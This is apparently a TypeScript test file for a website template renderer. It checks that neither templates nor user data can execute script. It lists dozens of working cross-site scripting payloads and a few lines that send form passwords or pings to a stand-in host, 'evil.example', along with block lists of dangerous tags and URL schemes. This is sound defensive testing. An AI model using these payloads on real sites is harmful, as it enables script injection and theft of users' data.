import t from 'tap'
import type { Test } from 'tap'
import { buildTestApp } from '../../../testing/index.ts'
import { loadConfig } from '../../../kernel/index.ts'
import type { PageData } from '../contract.ts'
import { SiteKit, attribute, elementsIn } from '../binding/testing.ts'
import type { RenderedPage } from '../binding/testing.ts'
import { scriptJson } from './index.ts'

const app = await buildTestApp({ plugins: { ...loadConfig({}).plugins, 'site-renderer': false } })
t.teardown(() => app.close())
const kit = new SiteKit(app)
const text = { type: 'string' }
const rich = (contentMediaType: string) => ({ type: 'string', contentMediaType })
await kit.type('web-page', 'WebPage', { name: text })
await kit.type('note', 'Article', {
  text,
  url: text,
  markdown: rich('text/markdown'),
  html: rich('text/html'),
  tags: { type: 'array', items: text },
  amount: { type: 'number' },
})
const page: PageData = { page: await kit.resource('web-page', await kit.create('web-page', { name: 'Page' })) }

const forbidden = new Set(
  'script iframe frame object embed applet base noscript template math foreignobject annotation-xml set animate animatetransform xmp plaintext'.split(
    ' ',
  ),
)

/** Fails if anything in a page runs, loads or sends what it should not. */
function checkHarmless(t: Test, { document, errors }: RenderedPage, name: string): void {
  const wrong: string[] = []
  for (const element of elementsIn(document)) {
    const tag = element.tagName.toLowerCase()
    if (forbidden.has(tag)) wrong.push(`<${tag}>`)
    for (const { name: attributeName, value } of element.attrs) {
      const bare = value.replace(/[\s\u0000-\u0020\u00ad\u200b-\u200f\ufeff]/g, '').toLowerCase()
      if (/^on/i.test(attributeName)) wrong.push(attributeName)
      if (
        ['srcdoc', 'formaction', 'style', 'ping', 'background', 'dynsrc', 'http-equiv', 'xlink:href'].includes(
          attributeName,
        )
      )
        wrong.push(attributeName)
      if (
        /^(?:javascript|vbscript|data(?!:image\/(?:png|jpeg|gif|webp|avif))|livescript|feed|jar|blob|filesystem):/.test(
          bare,
        )
      )
        wrong.push(`${attributeName}=${value}`)
      if (attributeName === 'action' && !/^\/(?!\/)/.test(value)) wrong.push(`action=${value}`)
      if (attributeName === 'method' && value !== 'get') wrong.push(`method=${value}`)
    }
  }
  const shown = JSON.stringify(name).replaceAll(/[^ -~]|[#\\]/g, '?') // these characters have a meaning in TAP
  t.strictSame(wrong, [], shown)
  t.strictSame(errors, [], `valid: ${shown}`)
}

const vectors = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>X</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror=alert(1)>--></annotation-xml></math>',
  '<math href="javascript:alert(1)">X</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<select><noembed></select><script>alert(1)</script></noembed>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscr\nipt\r:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="javascript\u200b:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt://%0aalert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" ping="https://evil.example">x</a>',
  '<area href="javascript:alert(1)">',
  '<form action="https://evil.example" method=post><input name=password></form>',
  '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="/\\evil.example"><input type=image formaction=//evil src=x></form>',
  '<form action="/api/settings/roles" method="post" enctype="text/plain"><input name="x"></form>',
  '<isindex action="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="/x.html"><link rel=modulepreload href=/x.js>',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)); x: expression(alert(1)) }</style>',
  '<style></style><script>alert(1)</script><style></style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1));color:red">x</p>',
  '<p style="color:red}</style><script>alert(1)</script>">x</p>',
  '<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>',
  '<video><source onerror=alert(1)></video><video poster="javascript:alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><head onclick=x>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<x onclick=alert(1)>x</x><custom-element is="x" onclick=alert(1)>y</custom-element>',
  '<p data-svc-at="1:1:" data-svc-slot="name" data-svc-evil="<script>">x</p>',
  '<p data-svc-fragment="</p><script>alert(1)</script>">x</p>',
  '<p data-svc-slot="onclick:name; style:name; srcdoc:name; href:name">x</p>',
  '<a data-svc-slot="onmouseover:text">x</a><script data-svc-slot="name"></script><style data-svc-slot="name">x</style>',
  '<iframe data-svc-slot="srcdoc:name"></iframe><svg data-svc-slot="onload:name"><text data-svc-slot="name">x</text></svg>',
  '<p id="a" id="b" class=\'"><script>alert(1)</script>\' title="--><script>alert(1)</script>">x</p>',
  '<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo "<script>alert(1)</script>" ?>',
  '<table><tr><td data-svc-slot="name">x</td></tr><script>alert(1)</script></table>',
  '<table data-svc-slot="name"><tr data-svc-slot="name"></tr></table><select data-svc-slot="name"></select>',
  '<p><div data-svc-slot="name"><p></div></p></p><b><i></b></i><a><a><button><button></button>',
  '\u0000<p>\u0001\u0085\ufdd0\uffff\udbff</p>',
  '<img srcset="javascript:alert(1) 1x, /ok.png 2x, data:text/html,x 3x" src="data:image/svg+xml,<svg onload=alert(1)>">',
]

t.test('no template executes code', async t => {
  for (const vector of vectors) {
    checkHarmless(t, await kit.render(vector, page), vector)
    checkHarmless(
      t,
      await kit.render(`<!doctype html><html><head>${vector}</head><body>${vector}<p>after</p></body></html>`, page),
      `in a document: ${vector}`,
    )
    const fragments = {
      layout: `<html><body><header data-svc-fragment="header"></header><main data-svc-fragment="content"></main></body></html>`,
      header: vector,
    }
    checkHarmless(t, await kit.render('<p>x</p>', page, { compile: { fragments } }), `in a fragment: ${vector}`)
  }
})

t.test('harmless content is kept', async t => {
  const html = `<section class="a" id="b" aria-label="c"><h2>Title</h2><a href="https://example.org/?a=1&amp;b=2" target="_blank">x</a><a href="#top">y</a>
    <img src="/a.png" srcset="/a.png 1x, /b.png 2x" alt="" loading="lazy"><button type="button" popovertarget="menu">Menu</button><nav id="menu" popover></nav>
    <svg viewBox="0 0 10 10" fill="none"><path d="M0 0h10" stroke="currentColor"></path></svg><form action="/search"><input name="q" type="search"></form>
    <p style="color: red; --gap: 2px">x</p><details><summary>s</summary>d</details><pre>\n\n a</pre></section>`
  const { html: out, errors, template, all } = await kit.render(html, page)
  t.strictSame([errors, template.problems], [[], []])
  for (const kept of [
    '?a=1&amp;b=2"',
    'target="_blank"',
    'srcset="/a.png 1x, /b.png 2x"',
    'popovertarget="menu"',
    ' popover>',
    'viewBox="0 0 10 10"',
    'd="M0 0h10"',
    'action="/search"',
    '<pre>\n\n a',
  ]) {
    t.ok(out.includes(kept), kept)
  }
  const style = all('style')[0]?.childNodes[0]
  t.match(
    style && 'value' in style ? style.value : '',
    /\.svc-style-1\.svc-style-1\.svc-style-1\{color: red;--gap: 2px\}/,
  )
  t.equal(template.styleHashes.length, 1)
})

t.test('no data execute code', async t => {
  const html = `<html><head><title data-svc-entity="Article">x</title><meta name="description" data-svc-slot="name"></head><body><main data-svc-entity="Article">
    <p data-svc-slot="text; title:text">x</p><div data-svc-slot="markdown"></div><li data-svc-slot="html"></li><h2 data-svc-slot="html">x</h2><a data-svc-slot="url">x</a><img data-svc-slot="src:url; srcset:url; alt:text">
    <textarea data-svc-slot="text"></textarea><pre data-svc-slot="text"></pre><input data-svc-slot="value:text"><time data-svc-slot="text"></time><svg><text data-svc-slot="text">x</text></svg>
    <table><tr><td data-svc-slot="html"></td></tr></table><a href="/x"><div data-svc-slot="html"></div><section data-svc-slot="markdown"></section></a><blockquote cite="x" data-svc-slot="cite:url; text:html"></blockquote>
    <video data-svc-slot="poster:url; src:url"></video><q data-svc-slot="class:text; data-x:text">x</q><form action="/s"><input type="checkbox" data-svc-slot="text"></form><i data-svc-entity="tags" data-svc-list data-svc-slot="@value">x</i></main></body></html>`
  const hostile = [
    ...vectors.map(vector => vector.replaceAll('\u0000', '').replaceAll(/[\ud800-\udfff]/g, '')),
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    '` onmouseover=alert(1)',
    '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    '</li></ul></div><p></p></p>',
    '<a href="/x">a<a href="/y">b</a></a><li>x</li><dd>y</dd><tr><td>z</td></tr>',
    '<a href="javascript:alert(1)">x</a><a href="/ok">y</a>',
    '[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y](/ok "t")',
    '[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/png;base64,AAAA)',
    '[a]: javascript:alert(1)\n\n[a] [x](java&#115;cript:alert(1)) [x](&#x6A;avascript:alert(1))',
    '```js"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '\n\nleading',
    '\u202e\u2028\u0085\ud7ff',
    '<p><p><h1><h2>x</h1><b><p></b></p><table><td>x<table><b>',
    '-->\n<!-- ]]> \\u003c/script>',
  ]
  for (const value of hostile) {
    const id = await kit.create('note', { text: value, url: value, markdown: value, html: value, tags: [value, value] })
    const out = await kit.render(html, { ...page, addressed: await kit.resource('note', id) })
    checkHarmless(t, out, `in data: ${value}`)
    const shown = out.all('p').find(element => attribute(element, 'title') !== undefined)
    const clean = value
      .replaceAll(/[\u0001-\u0008\u000b\u000e-\u001f\u007f-\u009f\ufdd0-\ufdef\ufffe\uffff]/g, '')
      .replaceAll(/\r\n?/g, '\n')
    t.equal(attribute(shown, 'title'), clean, 'exactly as written')
    const json = `<script type="application/ld+json">${scriptJson(JSON.stringify({ value }))}</script>`
    const read = await kit.render('<p>x</p>', page, { render: { head: json } })
    const script = read.all('script')[0]?.childNodes[0]
    t.strictSame([read.errors, script && 'value' in script ? JSON.parse(script.value) : undefined], [[], { value }])
  }
})

t.test('only the operator can allow scripts', async t => {
  const html =
    '<script>run()</script><script src="/a.js"></script><p onclick="go()">x</p><a href="javascript:x()">y</a>'
  const open = await kit.render(html, page, { compile: { allowScripts: true } })
  t.match(open.html, /<script>run\(\)<\/script><script src="\/a.js"><\/script><p onclick="go\(\)">/)
  t.notMatch(open.html, /javascript:/)
  t.equal(open.template.scriptHashes.length, 3)
  t.ok(open.template.scriptHashes.includes("'unsafe-hashes'"))
  t.strictSame((await kit.render(html, page)).template.scriptHashes, [])
})
